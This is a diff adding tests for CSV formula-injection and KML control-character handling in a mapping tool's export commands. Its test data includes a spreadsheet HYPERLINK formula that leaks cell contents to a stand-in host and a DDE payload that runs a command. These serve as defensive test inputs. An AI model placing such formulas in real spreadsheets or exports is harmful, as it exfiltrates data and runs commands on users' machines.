@@ -155,3 +155,97 @@ def test_cli_lists_every_export_format():
 
     fmt = next(param for param in export.params if param.name == "fmt")
     assert tuple(fmt.type.choices) == tuple(FORMATS)
+
+
+# -- issue 17: formulas in CSV exports, control characters in KML attributes -----------------------
+
+FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|x",
+            "\t=1+1 tabbed", "  =1+2 spaced"]
+# Where a spreadsheet would see a formula: the first character, or the first after blanks.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _formula_briefing(folder):
+    """A briefing whose places file names places with formulas, in their names, aliases and sources."""
+    rows = [["name", "lat", "lon", "source", "aliases", "country"]]
+    rows += [[f"{text} place {n}", f"{50 + n / 10:.4f}", f"{30 + n / 10:.4f}", text, f"{text}; plain alias", "UA"]
+             for n, text in enumerate(FORMULAS)]
+    rows.append(["London", "51.5072", "-0.1275", "Wikipedia", "", "GB"])  # a negative number stays a number
+    with open(folder / "p.csv", "w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows(rows)
+    (folder / "b.toml").write_text('title = "Formulas"\nlayers = ["places"]\nplaces = ["p.csv"]\n', encoding="utf-8")
+    return folder / "b.toml"
+
+
+def _read_csv(path):
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+def _check_cells(rows, numeric):
+    """Text cells start with no formula character (unless behind '); numeric cells read as numbers."""
+    header, *body = rows
+    for row in body:
+        for column, cell in zip(header, row):
+            if column in numeric:
+                float(cell)
+                assert not cell.startswith("'"), (column, cell)
+            else:
+                assert not cell.startswith(FORMULA_START), (column, cell)
+                assert not cell.lstrip().startswith(FORMULA_START), (column, cell)
+
+
+def test_places_csv_neutralises_formulas(run, tmp_path):
+    briefing = _formula_briefing(tmp_path)
+    result = run("export", str(briefing), "-f", "csv", "-o", "places.csv")
+    assert result.exit_code == 0, result.output
+    rows = _read_csv(tmp_path / "places.csv")
+    _check_cells(rows, numeric={"lat", "lon"})
+    by_name = {row[1]: dict(zip(rows[0], row)) for row in rows[1:]}
+    for n, text in enumerate(FORMULAS):
+        typed = f"{text} place {n}".strip()  # the places reader strips a cell's blanks: "\t=1+1" is "=1+1"
+        place = by_name[f"'{typed}"]  # the name as typed, behind one quote
+        assert place["aliases"] == f"'{text.strip()}; plain alias"
+        assert place["location_source"] == f"'{text.strip()}"
+        assert (float(place["lat"]), float(place["lon"])) == (pytest.approx(50 + n / 10), pytest.approx(30 + n / 10))
+    london = by_name["London"]
+    assert (london["lon"], london["lat"], london["location_source"]) == ("-0.127500", "51.507200", "Wikipedia")
+    assert by_name["Kyiv"]["name"] == "Kyiv"  # text without a formula is left alone
+
+
+def test_distances_csv_neutralises_formulas(run, tmp_path):
+    briefing = _formula_briefing(tmp_path)
+    result = run("export", str(briefing), "-f", "distances", "-p", "@SUM(1) place 2", "-p", "-33.9,-70.6",
+                 "-p", "London", "-o", "d.csv")
+    assert result.exit_code == 0, result.output
+    rows = _read_csv(tmp_path / "d.csv")
+    _check_cells(rows, numeric=set(rows[0][2:]))
+    assert [(r[0], r[1]) for r in rows[1:]] == [("'@SUM(1) place 2", "'-33.90000,-70.60000"),
+                                                 ("'@SUM(1) place 2", "London"),
+                                                 ("'-33.90000,-70.60000", "London")]
+
+
+def test_csv_text_cell():
+    from mapper.export.formats import text_cell
+
+    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx", " =1", "\n=1", "\u00a0=1"]:
+        assert text_cell(text) == "'" + text, repr(text)
+    for text in ["Kyiv", "", "a=b", "1-2", "'quoted", "50.45"]:
+        assert text_cell(text) == text, repr(text)
+
+
+@pytest.mark.parametrize("key", ["ranges", "routes"])
+def test_kml_attributes_hold_no_control_characters(run, tmp_path, key):
+    """An id with an ESC, which XML cannot hold, becomes U+FFFD in the attribute as in text; GDAL reads the file."""
+    entry = ('[[ranges]]\nid = "a\\u001bb"\nsystem = "fath-360"\ncentre = "kyiv"\n' if key == "ranges" else
+             '[[routes]]\nid = "a\\u001bb"\nfrom = "bandar-anzali"\nto = "astrakhan"\nmode = "great-circle"\n')
+    layer = "ranges" if key == "ranges" else "supply-flows"
+    (tmp_path / "b.toml").write_text(f'title = "Ids"\nlayers = ["{layer}"]\n{entry}', encoding="utf-8")
+    result = run("export", str(tmp_path / "b.toml"), "-o", "x.kml")
+    assert result.exit_code == 0, result.output
+    root = ET.parse(tmp_path / "x.kml").getroot()
+    ns = {"k": "http://www.opengis.net/kml/2.2"}
+    ids = [p.get("id") for p in root.iterfind(".//k:Placemark", ns)]
+    assert "a\ufffdb" in ids and not any("\x1b" in i for i in ids)
+    frame = pyogrio.read_dataframe(tmp_path / "x.kml", layer=LAYER_TITLES[layer])
+    assert list(frame["id"]) == ids
